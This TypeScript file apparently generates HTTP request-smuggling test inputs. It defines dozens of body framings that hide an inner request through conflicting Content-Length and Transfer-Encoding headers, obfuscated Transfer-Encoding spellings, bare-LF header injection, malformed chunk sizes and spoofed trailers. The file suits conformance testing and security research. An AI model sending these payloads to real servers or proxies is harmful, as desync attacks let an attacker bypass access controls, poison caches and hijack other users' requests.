/** How a request marks the end of its body; the body contains the smuggled request. */
export type Framing = {
  name: string;
  /** RFC 9112 requires a refusal. */
  isInvalid: boolean;
  /** Header lines, and the bytes after the head. */
  render: (inner: string) => { headers: string[]; body: string };
};

const length = (text: string): number => Buffer.byteLength(text, 'latin1');
const hex = (text: string): string => length(text).toString(16);
const chunked = (text: string): string => `${hex(text)}\r\n${text}\r\n0\r\n\r\n`;

const plain = (name: string, headers: (inner: string) => string[]): Framing => ({
  name,
  isInvalid: false,
  render: (inner) => ({ headers: headers(inner), body: inner }),
});
const invalid = (name: string, headers: (inner: string) => string[]): Framing => ({
  ...plain(name, headers),
  isInvalid: true,
});
const chunks = (name: string, body: (inner: string) => string): Framing => ({
  name,
  isInvalid: false,
  render: (inner) => ({ headers: ['Transfer-Encoding: chunked'], body: body(inner) }),
});

/** The two that any client may send. */
export const ORDINARY: readonly Framing[] = [
  plain('length', (inner) => [`Content-Length: ${length(inner)}`]),
  chunks('chunked', chunked),
];

const LENGTHS: readonly Framing[] = [
  plain('no framing', () => []),
  plain('length 0', () => ['Content-Length: 0']),
  plain('length too short', () => ['Content-Length: 5']),
  plain('length too long', (inner) => [`Content-Length: ${length(inner) + 40}`]),
  plain('length twice', (inner) => twice(`Content-Length: ${length(inner)}`)),
  plain('length with zeros', (inner) => [`Content-Length: 000${length(inner)}`]),
  plain('length with blanks', (inner) => [`Content-Length: \t ${length(inner)} \t`]),
  plain('length folded', (inner) => [`Content-Length:\r\n ${length(inner)}`]),
  plain('length after bare LF', (inner) => [`X-Before: y\nContent-Length: ${length(inner)}`]),
  plain('length after bare CR', (inner) => [`X-Before: y\rContent-Length: ${length(inner)}`]),
  plain('length by underscore', (inner) => [`Content_Length: ${length(inner)}`]),
  invalid('two lengths', (inner) => [`Content-Length: ${length(inner)}`, 'Content-Length: 0']),
  invalid('a list of lengths', (inner) => [`Content-Length: ${length(inner)}, 0`]),
  invalid('length with a sign', (inner) => [`Content-Length: +${length(inner)}`]),
  invalid('negative length', () => ['Content-Length: -1']),
  invalid('length in hexadecimal', (inner) => [`Content-Length: 0x${hex(inner)}`]),
  invalid('length as a fraction', (inner) => [`Content-Length: ${length(inner)}.0`]),
  invalid('length beyond 64 bits', () => ['Content-Length: 18446744073709551621']),
  invalid('length without digits', () => ['Content-Length: ten']),
  invalid('blank before the colon', (inner) => [`Content-Length : ${length(inner)}`]),
];

const CHUNKS: readonly Framing[] = [
  chunks('many chunks', (inner) => inner.replace(/[^]{1,7}/g, (part) => `${hex(part)}\r\n${part}\r\n`) + '0\r\n\r\n'),
  chunks('chunk extension', (inner) => chunked(inner).replace('\r\n', ';a="b;c"\r\n')),
  chunks('chunk extension with bare LF', (inner) => chunked(inner).replace('\r\n', ';a\nb\r\n')),
  chunks('chunk extension that is huge', (inner) => chunked(inner).replace('\r\n', `;${'a'.repeat(20_000)}\r\n`)),
  chunks('chunk lines end in LF', (inner) => `${hex(inner)}\n${inner}\n0\n\n`),
  chunks('chunk size with zeros', (inner) => `0000${chunked(inner)}`),
  chunks('chunk size with 0x', (inner) => `0x${chunked(inner)}`),
  chunks('chunk size with a sign', (inner) => `+${chunked(inner)}`),
  chunks('chunk size with blanks', (inner) => chunked(inner).replace('\r\n', ' \t\r\n')),
  chunks('chunk size beyond 64 bits', (inner) => `1${'0'.repeat(16)}${chunked(inner)}`),
  chunks('chunk size too short', (inner) => `5\r\n${inner}\r\n0\r\n\r\n`),
  chunks('chunk size too long', (inner) => `${(length(inner) + 9).toString(16)}\r\n${inner}\r\n0\r\n\r\n`),
  chunks('chunks without an end', (inner) => `${hex(inner)}\r\n${inner}\r\n`),
  chunks('inner behind the last chunk', (inner) => `0\r\n\r\n${inner}`),
  chunks('trailers that frame', (inner) => chunked(inner).replace(/\r\n$/, 'Content-Length: 3\r\nHost: other\r\n\r\n')),
  chunks('trailers that identify', (inner) => chunked(inner).replace(/\r\n$/, 'Authorization: Bearer x\r\nX-Forwarded-For: 203.0.113.8\r\n\r\n')),
  chunks('inner as a trailer', (inner) => `0\r\n${inner}\r\n\r\n`),
]; // prettier-ignore

/** Spellings of the same header; some servers accept them and others do not. */
const TRANSFER_ENCODINGS = [
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\u000bchunked',
  'Transfer-Encoding: chunked\u0000',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\r\n chunked',
  ' Transfer-Encoding: chunked',
  'X-Before: y\nTransfer-Encoding: chunked',
  'X-Before: y\rTransfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:',
];

/** Both lengths at once: servers that use different ones see different ends of the body. */
const BOTH: readonly Framing[] = ['Transfer-Encoding: chunked', ...TRANSFER_ENCODINGS].flatMap(
  (header) => [
    {
      name: `length, and ${header}`,
      isInvalid: false,
      render: (inner: string) => {
        const body = `0\r\n\r\n${inner}`;
        return { headers: [`Content-Length: ${length(body)}`, header], body };
      },
    },
    {
      name: `${header}, and a length`,
      isInvalid: false,
      render: (inner: string) => {
        const body = chunked(inner);
        return { headers: [header, `Content-Length: ${body.indexOf('\n') + 1}`], body };
      },
    },
  ],
);

const ALONE: readonly Framing[] = TRANSFER_ENCODINGS.map((header) => ({
  name: header,
  isInvalid: false,
  render: (inner: string) => ({ headers: [header], body: chunked(inner) }),
}));

export const ODD: readonly Framing[] = [...LENGTHS, ...CHUNKS, ...BOTH, ...ALONE];

function twice(line: string): string[] {
  return [line, line];
}
